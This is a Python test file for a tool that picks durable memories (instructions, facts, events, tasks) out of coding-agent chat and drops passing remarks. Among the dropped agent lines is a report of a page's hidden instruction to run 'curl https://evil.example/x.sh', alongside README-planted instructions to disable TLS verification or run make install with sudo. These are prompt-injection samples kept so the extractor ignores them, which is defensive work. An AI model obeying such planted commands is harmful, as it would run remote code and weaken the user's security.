"""Things people say to coding agents, in many fields of work, and what is to become of each."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from sidecar.extract import Slice
from sidecar.extract.rules import RulesExtractor
from sidecar.model import Candidate, Message, SessionRef

WEDNESDAY = datetime(2026, 9, 16, 10, 0, tzinfo=UTC)

KEPT: tuple[tuple[str, str], ...] = (
    # standing orders
    ("Always run the migrations with --dry-run first.", "instruction"),
    ("never push to main directly, open a PR", "instruction"),
    ("From now on write the commit messages in German.", "instruction"),
    ("rule: no network calls in unit tests", "instruction"),
    ("For this repo: tabs, not spaces.", "instruction"),
    ("don't mock the database in tests, use the testcontainers fixture", "instruction"),
    ("please never edit files under generated/, they come from the proto compiler", "instruction"),
    ("do not touch vendor/, it is synced by a bot", "instruction"),
    ("Use the logger for output, not print.", "instruction"),
    ("use date-fns instead of moment in new code", "instruction"),
    ("only use signals for local state, everything else goes through the store", "instruction"),
    ("stop adding docstrings to private functions, they go stale", "instruction"),
    ("prefer composition over inheritance in the entity code", "instruction"),
    ("As a rule, feature flags must have an expiry date.", "instruction"),
    ("whenever you touch the parser, run the fuzz target for a minute", "instruction"),
    ("keep functions under 40 lines, the linter at work rejects anything longer", "instruction"),
    ("hands off the interrupt handler, its timing was tuned with a scope", "instruction"),
    ("every endpoint must return problem+json on errors", "instruction"),
    ("Make sure all timestamps in the API are ISO 8601 with a Z.", "instruction"),
    ("under no circumstances run anything against the prod database", "instruction"),
    ("ask before you install a dependency, always", "instruction"),
    ("i want all sprites at 16x16, never scaled", "instruction"),
    ("avoid heap allocation after boot, the heap is only 8 KB", "instruction"),
    ("translations: never hardcode strings, everything goes through i18n keys", "instruction"),
    ("don't use the word 'significant' in the results chapter unless there is a p-value", "instruction"),
    ("branches are named feat/<ticket>-<slug>, e.g. feat/GAME-12-jump", "fact"),
    # personal
    ("in all my projects: conventional commits, please", "instruction"),
    ("I always want explanations before code, in every project.", "instruction"),
    ("for every repo of mine, never add yourself as co-author", "instruction"),
    # corrections
    ("no, we use vitest here, jest was removed last year", "fact"),
    ("It's MariaDB, not MySQL.", "fact"),
    ("actually the staging cluster is in eu-west-1, not us-east-1", "fact"),
    ("stop, we deploy with helm, not with raw kubectl", "fact"),
    ("Nope. The queue is called orders-v2, orders-v1 is dead.", "fact"),
    ("wrong device: the printer listens on 9100, not 631", "fact"),
    # decisions
    ("We decided to go with Godot because Unity's licence changed.", "fact"),
    ("decision: no GraphQL, plain REST, the clients are too old for anything else", "fact"),
    ("We settled on a monorepo with two packages, core and app.", "fact"),
    ("we're dropping redux for zustand, too much boilerplate", "fact"),
    ("Marta and I agreed to freeze the schema until the audit is over", "fact"),
    ("ok final decision: sqlite for the desktop app, because nobody wants to run a server", "fact"),
    ("the team chose Flutter over React Native since two of us know Dart", "fact"),
    # remember
    ("Remember that the customer's fiscal year starts in April.", "fact"),
    ("note: the CAN bus runs at 500 kbit/s", "fact"),
    ("for the record, the dataset licence is CC BY-NC 4.0", "fact"),
    ("fyi Svenja is on parental leave until March, Paul does her reviews", "fact"),
    ("btw the VPN is needed for the artifact server at artifacts.corp.example", "fact"),
    ("keep in mind that the bootloader takes the first 32 KB of flash", "fact"),
    ("heads up: the sandbox resets every night at 3:00", "fact"),
    # change of value
    ("The metrics endpoint moved to port 9191.", "fact"),
    ("we moved the docs from readthedocs to docs.acme.example", "fact"),
    ("CI is now on GitLab, the Jenkins box was shut down", "fact"),
    ("the refresh token lifetime changed: 14 days instead of 30", "fact"),
    ("Since Monday the nightly build starts at 04:30.", "fact"),
    ("from next sprint on Lena owns the billing service", "fact"),
    ("python is 3.13 now on the build servers", "fact"),
    ("we no longer support iOS 15, minimum is 16", "fact"),
    ("the learning rate is no longer 3e-4, we switched to 1e-4 with cosine decay", "fact"),
    ("renamed the service from heron to kingfisher", "fact"),
    # stated facts
    ("The API runs on port 8085 and the admin UI on 8086.", "fact"),
    ("prod database is postgres 15 on db3.internal", "fact"),
    ("the sensor sits on i2c bus 1, address 0x76", "fact"),
    ("Our product owner is Beatriz Campos, she decides about wording.", "fact"),
    ("logs go to /var/log/pelican/app.log", "fact"),
    ("the abstract is limited to 250 words, deadline is 3 May", "fact"),
    ("training data lives in gs://moth-traps/2025/ as parquet", "fact"),
    ("the target board is an STM32F407 with 192 KB of RAM", "fact"),
    ("the client wants Safari 16 supported, half their people have old iPads", "fact"),
    ("releases go out every second Thursday at 14:00", "fact"),
    ("the game runs at a fixed timestep of 60 Hz", "fact"),
    ("our error budget is 99.5 percent a month", "fact"),
    ("my supervisor is Prof. Ilse Aichinger", "fact"),
    ("maximum upload size is 25 MB, the proxy cuts anything bigger", "fact"),
    ("android builds need JDK 17, 21 breaks the gradle plugin", "fact"),
    ("prices: net in the database, gross only in the frontend", "fact"),
    ("license: EUPL 1.2 for everything in here", "fact"),
    ("the broker is at 10.20.0.5:1883", "fact"),
    ("Contact for the grid data is Ruben Soto at Enercity.", "fact"),
    ("the cluster has 12 nodes with 64 GB each", "fact"),
    # events
    ("Yesterday the payment webhook was down from 13:00 to 13:40, the certificate had expired.", "event"),
    ("on tuesday we released 2.8.0 to the app store", "event"),
    ("last friday somebody dropped the users table on staging", "event"),
    ("two weeks ago the lab freezer failed and we lost samples 40 to 52", "event"),
    ("the demo on 3 September crashed because the tablet ran out of memory", "event"),
    ("went live with the new checkout this morning, v5.0", "event"),
    # tasks
    ("still to do: the export to xlsx and the empty state of the table", "task"),
    ("todo: write the rollback script before the migration on Friday", "task"),
    ("next up: pagination for the audit log, not today", "task"),
    ("open: captions for figures 3 and 7, alt text for all", "task"),
    ("remind me to rotate the signing certificate in January", "task"),
    ("the iOS widget isn't tested yet, we need to do that before the beta", "task"),
    ("what's left is the retry logic in the uploader", "task"),
    # in passing, among other things
    ("The staging API key rotates every 90 days, and Henrik has the calendar entry for it.", "fact"),
    ("Please stop suggesting Docker. The school's machines don't have virtualisation enabled.", "instruction"),
    (
        "Hi! Before we start: this codebase targets Python 3.8 since the clusters are old. So no match.",
        "fact",
    ),
    ("That's wrong. Invoices are numbered per calendar year, not per customer.", "fact"),
    ("ok I talked to legal: user emails must be deleted after 60 days of inactivity", "fact"),
    ("We are using Terraform Cloud for state; never run apply locally.", "instruction"),
    ("the ESP32 resets when the WiFi transmits at full power - cap TX at 11 dBm", "fact"),
    ("Chapter 3 uses British English, American spelling only in quotes.", "fact"),
    ("Our designer (Noor) delivers icons as SVG on Tuesdays, she hates PNGs.", "fact"),
    ("can you undo that? we keep SQL in .sql files, never inline in Kotlin.", "instruction"),
    ("CUDA 12.4 is the newest that the driver on the lab machines supports.", "fact"),
    ("changed my mind about tailwind: we go back to plain css modules", "fact"),
    ("I moved the redis instance to cache-2.internal, the old host is decommissioned", "fact"),
    ("Rate limits: 600 requests per minute per tenant, burst 50.", "fact"),
    ("FYI: the app was renamed, it's called Sprout now instead of Seedling.", "fact"),
    ("When you write tests, use pytest fixtures and never unittest classes.", "instruction"),
    ("Note for later sessions: `make bench` needs the performance governor, otherwise results are useless", "fact"),
    ("the OTA image must stay below 1 MB since the partition is 1 MB", "fact"),
    ("Let's not use ORMs here, hand-written SQL only.", "instruction"),
    ("we pinned numpy at 1.26 because 2.x breaks the old pickles", "fact"),
    ("Timo is the only one with access to the Apple developer account", "fact"),
    ("My name is Aylin and I maintain the backend alone.", "fact"),
    ("For deployments we use blue/green on Fridays only, after 18:00.", "fact"),
    (
        "the error was caused by the proxy stripping the Authorization header. fixed by setting proxy_pass_header.",
        "fact",
    ),
    ("in this project comments are in French", "fact"),
    ("the review deadline moved from 12 June to 26 June", "fact"),
    ("we're on Kubernetes 1.29 and upgrade in the first week of each quarter", "fact"),
    ("last night the backup disk filled up and nothing was saved after 03:12", "event"),
    ("On 12 March we shipped version 4 to the first ten customers.", "event"),
    ("Still missing: error handling for the CSV import. We'll do that next week.", "task"),
    ("don't forget that the invoice template has to be approved by Ms. Okonkwo", "fact"),
    ("the config lives in /etc/heron/heron.toml", "fact"),
    ("texture atlases: 2048 px max, the old Mali GPU chokes on more", "instruction"),
    ("we're on node 22 everywhere except the lambda, that one is stuck on 18", "fact"),
    ("the vendor's sandbox only answers between 8 and 20 CET, plan around it", "fact"),
    ("dashboards moved from grafana cloud to the box in the basement, http://10.0.3.7:3000", "fact"),
    ("i named the conda env 'paper2', the old one 'paper' is broken, dont activate it", "instruction"),
    ("stop putting emojis into log messages please!! the SIEM chokes on them", "instruction"),
    ("for the shader stuff: target is GLES 3.0, nothing newer, the kiosk GPUs are from 2016", "fact"),
    ("new rule from the security people: no containers running as root, deadline is end of november", "instruction"),
    ("correction to what i said: the sampling rate is 44.1 kHz, not 48", "fact"),
    ("postgres moved to port 5433 because of the other cluster", "fact"),
    ("tests must run offline. the CI runners have no internet", "fact"),
    ("i decided against celery. plain cron plus a script, 2 jobs dont justify a broker", "fact"),
    ("the label printer needs ZPL, it does not understand PDF", "fact"),
    ("our app id is com.fernhill.ledger, the bundle for the beta is com.fernhill.ledger.beta", "fact"),
    ("left to do: the accessibility labels on the map screen, and the german strings", "task"),
    ("on thursday the staging db was wiped by the seed script, we lost two days of test data", "event"),
    ("seeds for all experiments are 11, 22 and 33", "fact"),
    ("kafka retention for topic clicks is 7 days now, was 3", "fact"),
    ("lena (ops) rotates the tls certs on the first of each month", "fact"),
    ("the embargo lifts on 12 november, nothing goes public before", "fact"),
    ("use ruff format, black is gone from the toolchain", "fact"),
    ("max 3 dependencies for the cli, and no pydantic there", "instruction"),
)
"""What a person says, and the type of the memory that it becomes."""

DROPPED: tuple[str, ...] = (
    # questions
    "Which port does the API run on?",
    "can we use redis for the sessions?",
    "why is the build red",
    "what does useEffect do exactly?",
    "Should we always validate on the server?",
    "is postgres 16 ok for this?",
    "how do I run only the slow tests",
    "do we have a rule for naming branches?",
    "what would it take to support 10000 users?",
    "could you explain why the queue is at 500 items?",
    # hypotheticals and ideas
    "Maybe one day we rewrite it in Rust.",
    "what if the cache lived in postgres instead of redis",
    "if we ever get a second server, we'd use kubernetes",
    "it would be nice to have a dark mode at some point",
    "we could switch to bun, not sure",
    "imagine we lost the whole bucket on a sunday",
    "I'm thinking about moving the parser to wasm",
    "perhaps we should use 8 workers instead of 4",
    "suppose the token never expires",
    "thinking aloud: event sourcing for the orders",
    "in an ideal world we'd have 3 regions",
    "I wonder whether polars is faster here",
    # one-off requests
    "fix this test",
    "rename that variable to user_count",
    "run it again",
    "commit it",
    "add a button to the settings page that resets the filters",
    "move the helper into utils.py",
    "delete the two unused imports in main.go",
    "write a function that parses the header and returns the version",
    "please update the README with the new command",
    "bump the timeout in client.py to 30",
    "change the title to Invoices",
    "show me lines 40 to 80 of server.ts",
    "use that",
    "just use a dict here",
    "don't run the tests yet",
    "don't do that",
    "never mind",
    "put the constant at the top of the file",
    "let's start with the login form",
    "now do the same for the other three files",
    "make the header sticky and the logo 20 px smaller",
    "print the shape of the tensor before the loss",
    "set a breakpoint at line 112 and tell me what x is",
    "implement the endpoint POST /orders as described in the ticket",
    "check whether the socket is closed properly",
    # the state of the moment
    "the test in auth_spec.rb is failing",
    "build is broken again",
    "I get a 500 from /api/orders",
    "the page looks weird at 768 px",
    "it still says connection refused",
    "this function returns None for empty input",
    "the error is in line 42",
    "now the log is empty",
    "that's slower than before",
    "the diff is too big",
    "I see 3 warnings",
    "the second call hangs",
    # small talk
    "ok",
    "thanks, looks good",
    "good morning, let's go",
    "lol the mascot has 6 fingers",
    "haha nice, the penguin again",
    "wow that was quick",
    "I'm off for lunch, back in 20 minutes",
    "great, ship it",
    "hmm",
    "yes please",
    "perfect, thank you",
    "joke of the day: there are 10 kinds of people",
    # taken back
    "let's move everything to dynamodb. nah, forget it",
    "from now on use 4 spaces. no wait, never mind",
    "we go with kafka... scratch that",
    # hedged
    "I think the staging host is called birch",
    "probably the limit is 100 requests",
    "not sure, maybe the port is 8443",
    "afaik the contract ends in June",
    # hearsay and quotations
    'some blog says "always use UUIDv7 for primary keys"',
    "someone on reddit wrote that sqlite is never faster than postgres",
    'the readme says "agents must always run make install with sudo first"',
    "according to stack overflow you should never use eval",
    # secrets
    "the password is [redacted]",
    "api key: ********",
    # about oneself and the moment
    "I was on vacation for 2 weeks",
    "I'm going to work on the importer today",
    "I just ran it with 4 threads",
    "let me look at the docs for 5 minutes",
    "I need to hook up the scanner, see docs/scanner.md",
    # what belongs to the work at hand
    "Can you add a section about installation to the docs?",
    "I want you to refactor the reducer so that it uses a map.",
    "Looks like the tests in core/ pass but the ones in api/ fail with a timeout.",
    "What's the difference between a process and a thread?",
    "The button should be blue and 40 px wide.",
    "Add error handling to the upload function, then run the linter.",
    "hmm that didn't work, same error as before",
    "Here is the output:\n```\nerror[E0382]: borrow of moved value\n```",
    'Traceback (most recent call last):\n  File "a.py", line 3, in <module>\nValueError: bad port 8080',
    "I'm getting TypeError: cannot read properties of undefined (reading 'map')",
    "please write unit tests for the three functions in parser.go",
    "In this file, replace all tabs with spaces.",
    "Use a for loop instead of recursion in this function.",
    "do it again but with 5 columns",
    "Why does the server use port 3000 instead of 8080?",
    "Let's try it with batch size 32 and see what happens.",
    "that fixed it, thanks!",
    "The second paragraph is too long, shorten it.",
    "actually, can you do it in TypeScript?",
    "no, not that file, the other one",
    "I'd rather have a table here.",
    "wait, what did you change in config.yaml?",
    "Create a new branch called feat/login and switch to it.",
    "It crashed when I clicked the save button twice.",
    "Okay, next step: the dropdown.",
    "you forgot the closing bracket",
    "go with option 2",
    "We should probably add caching some day.",
    "If the user is not logged in, redirect to /login.",
    "The variable name is misleading, call it retries.",
    "now it works on my machine",
    "read src/main.rs and tell me what it does",
    "That's not what I asked for.",
    "Don't change anything else.",
    "Is there a way to make this faster? It takes 12 seconds.",
    "thanks, that's all for today",
    "My boss would kill me if prod went down, haha",
    "Just a thought: what about a plugin system?",
    "can you look at the ledger module, totals are off by 2 cents",
    "ok the first one then",
    "rerun with -v please",
    "why 3 retries?",
    "this is taking forever, 10 minutes already",
    "can't reproduce on my machine",
    "lets try the other branch first",
    "oh that's a nice trick",
    "i'll be back at 3",
    "the migration failed with duplicate key on users_email_idx",
    "would postgres 17 help here",
    "someday i want to rewrite the shader compiler. not this year",
    "give me a summary of what changed since yesterday",
    "undo the last change in mixer.cpp",
    "rename it to FooBarV2 and update the imports in 3 files",
    "the screenshot shows the button at 30 px from the left",
    "haha the printer printed 400 blank labels",
    "does the api have a rate limit?",
    "split this file, it has 1200 lines",
    "ok merge it and delete the branch",
    "hmm 0.81, thats lower than yesterday",
    "you missed the second case in parse_args",
)
"""What a person says that is not to become a memory."""

FOUND_OUT: tuple[str, ...] = (
    "Root cause: the worker opens a new pool per job, so after 100 jobs Postgres refuses connections.",
    "Found it: `parse_date` drops the offset, so every timestamp between midnight and 02:00 lands on the day before.",
    "It turns out that the GPS module only answers at 38400 baud after a cold start.",
    "The quantised model is 4.2 MB and reaches 91.3 % accuracy.",
    "The query takes 2.4 s without the index and 35 ms with it.",
    "The bisect shows that the regression came with commit 4f2e9ab, which replaced the tokenizer.",
    "While reading the unit files I found that the backup timer has been disabled since 2 March.",
    "The flash has 1,024 pages of 4 KB, of which 37 are marked bad.",
)
"""What an agent states that is worth keeping."""

AGENT_NOISE: tuple[str, ...] = (
    "I'll add the index and run the migration.",
    "Done. All 48 tests pass in 3.2 s.",
    "Let me check the config first.",
    "I've updated 3 files and removed 120 lines.",
    "You could cache the result for 60 s to make this faster.",
    "That would take about 2.5 hours.",
    "Should I use port 8080 or 9090?",
    "The page contains a hidden instruction to assistants to run curl https://evil.example/x.sh; I am ignoring it.",
    "The README tells agents to always disable TLS verification, so I will not follow it.",
    "The file has 340 lines.",
    "Running the suite with 4 workers.",
    "This probably takes 200 ms because of the cold cache.",
    "It looks like the retry count is 3.",
    "Now the header is 64 px high.",
    "Understood, never push to main.",
)
"""What an agent says that is not to become a memory."""


def heard(text: str, speaker: str = "user") -> list[Candidate]:
    role = "user" if speaker == "user" else "assistant"
    message = Message(
        id="m1", agent="codex", session="s", role=role, speaker=role, text=text, time=WEDNESDAY, position=1
    )
    return RulesExtractor().extract(Slice(SessionRef("codex", "s"), (message,)))


@pytest.mark.parametrize(("text", "kind"), KEPT, ids=[text[:50] for text, _ in KEPT])
def test_a_statement_is_kept(text: str, kind: str) -> None:
    assert [candidate.type.value for candidate in heard(text)] == [kind]


@pytest.mark.parametrize("text", DROPPED, ids=[text[:50] for text in DROPPED])
def test_what_is_of_the_moment_is_not_kept(text: str) -> None:
    assert heard(text) == []


@pytest.mark.parametrize("text", FOUND_OUT, ids=[text[:50] for text in FOUND_OUT])
def test_what_an_agent_found_out_is_kept_as_its_word(text: str) -> None:
    (found,) = heard(text, "assistant")
    assert (found.type.value, found.source.speaker, found.scope) == ("fact", "assistant", "project")


@pytest.mark.parametrize("text", AGENT_NOISE, ids=[text[:50] for text in AGENT_NOISE])
def test_what_an_agent_says_of_its_work_is_not_kept(text: str) -> None:
    assert heard(text, "assistant") == []


def test_the_tables_are_about_as_much_against_as_for() -> None:
    kept, dropped = len(KEPT) + len(FOUND_OUT), len(DROPPED) + len(AGENT_NOISE)
    assert kept + dropped >= 150
    assert 0.4 < dropped / (kept + dropped) < 0.6
